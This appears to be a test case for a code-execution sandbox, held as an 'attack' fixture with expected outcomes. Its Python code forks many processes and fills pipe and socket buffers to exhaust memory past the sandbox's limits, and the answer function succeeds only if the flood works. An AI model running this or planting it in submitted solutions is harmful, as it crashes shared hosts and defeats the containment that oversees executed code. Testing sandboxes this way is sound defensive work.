# attack: fills the buffers of pipes and sockets in as many processes as it may have
# kind: resources
# task: plain
# official: crash|fail
# strict: fail|forged|suspect
# expect: the limit on descriptors is no limit on memory: the buffers of all its processes count
import os
import socket
import time

MANY = __LIMIT_PROCESSES__ // 2


def fill():
    held = 0
    kept = []
    try:
        while True:
            pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
            kept += [*pair, *os.pipe()]
            for one in pair:
                one.setblocking(False)
            os.set_blocking(kept[-1], False)
            for write in (pair[0].send, pair[1].send, lambda data: os.write(kept[-1], data)):
                try:
                    while True:
                        held += write(b"x" * 16384)
                except BlockingIOError:
                    pass
    except OSError:
        return held, kept


def flood():
    reader, writer = os.pipe()
    for _ in range(MANY):
        if os.fork() == 0:
            held, kept = fill()
            os.write(writer, b"%12d" % (held >> 10))
            time.sleep(3600 + len(kept))
    os.set_blocking(reader, False)
    end = time.monotonic() + 7
    held = 0
    while time.monotonic() < end:
        try:
            held += int(os.read(reader, 12)) << 10
        except BlockingIOError:
            time.sleep(0.05)
    return held > 2 * __LIMIT_MEMORY_MIB__ << 20


WON = flood()


def task_func(n):
    return n * 2 if WON else None
